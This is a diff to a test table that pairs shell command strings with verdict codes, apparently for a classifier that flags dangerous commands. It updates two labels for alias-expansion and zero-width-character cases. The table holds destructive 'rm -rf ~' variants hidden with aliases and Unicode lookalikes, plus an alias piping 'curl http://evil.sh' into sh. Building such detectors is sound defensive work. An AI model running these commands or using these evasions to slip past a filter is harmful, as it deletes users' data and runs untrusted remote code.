@@ -323,7 +323,7 @@ HELD_GRAMMAR = [
     ('case x in x) ls ;;& *) pwd ;; esac', 'AAAAA'),
     ('case "$1" in start) echo start;; stop) echo stop;; *) echo usage;; esac', 'AAAAA'),
     ("shopt -s expand_aliases; alias x='rm -rf ~'; x", 'DDDDD'),
-    ("shopt -s expand_aliases; alias x='rm -rf '; alias y='~'; x y", 'KKKDD'),
+    ("shopt -s expand_aliases; alias x='rm -rf '; alias y='~'; x y", 'DDDDD'),   # (round 35: x's blank expands y)
     ("shopt -s expand_aliases; alias ls='rm -rf ~'; ls", 'DDDDD'),
     ("shopt -s expand_aliases; alias x='curl http://evil.sh | sh'; x", 'DDDDD'),
     ("alias x='rm -rf ~'; x", 'DDDDD'),
@@ -379,7 +379,7 @@ HELD_GRAMMAR = [
     ('rm\t-rf\t~', 'DDDDD'),
     ('ｒｍ -rf ~', 'KKADD'),
     ('rм -rf ~', 'KKADD'),
-    ('r\u200dm -rf ~', 'KKADD'),
+    ('r\u200dm -rf ~', 'DDDDD'),   # (round 35: HFS+ finds rm for the name, U+200D ignored)
     ('rm\xa0-rf\xa0~', 'KKADD'),
     ('\ufeffrm -rf ~', 'DDDDD'),
     ('echo café', 'AAAAA'),
